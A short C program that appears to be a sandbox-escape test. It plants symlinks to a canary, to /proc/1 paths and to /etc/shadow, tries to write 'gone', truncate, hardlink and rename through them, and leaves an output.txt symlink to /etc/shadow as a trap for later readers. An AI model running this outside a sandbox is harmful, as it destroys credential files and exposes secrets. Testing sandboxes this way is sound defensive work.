// Links that point outside, followed while writing, renaming and linking.
// ends: exit 0
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    char canary[4096];
    snprintf(canary, sizeof canary, "%s/canary", argc > 2 ? argv[2] : "/none");
    const char *places[] = {canary, "../canary", "/proc/1/cwd/../canary", "/proc/1/cwd/../../canary", "/proc/1/root/canary", "/etc/shadow"};
    for (int i = 0; i < 6; i++) {
        unlink("door");
        symlink(places[i], "door");
        int f = open("door", O_WRONLY | O_CREAT | O_TRUNC, 0666);
        if (f != -1 && write(f, "gone", 4) == 4)
            printf("ESCAPED: through %s\n", places[i]);
        if (truncate("door", 0) == 0 || link(places[i], "hard") == 0 || rename(places[i], "moved") == 0)
            printf("ESCAPED: moved %s\n", places[i]);
    }
    unlink("door");
    symlink(argv[2], "door");  // left behind, for whoever reads the folder afterwards
    symlink("/etc/shadow", "output.txt");
    return 0;
}
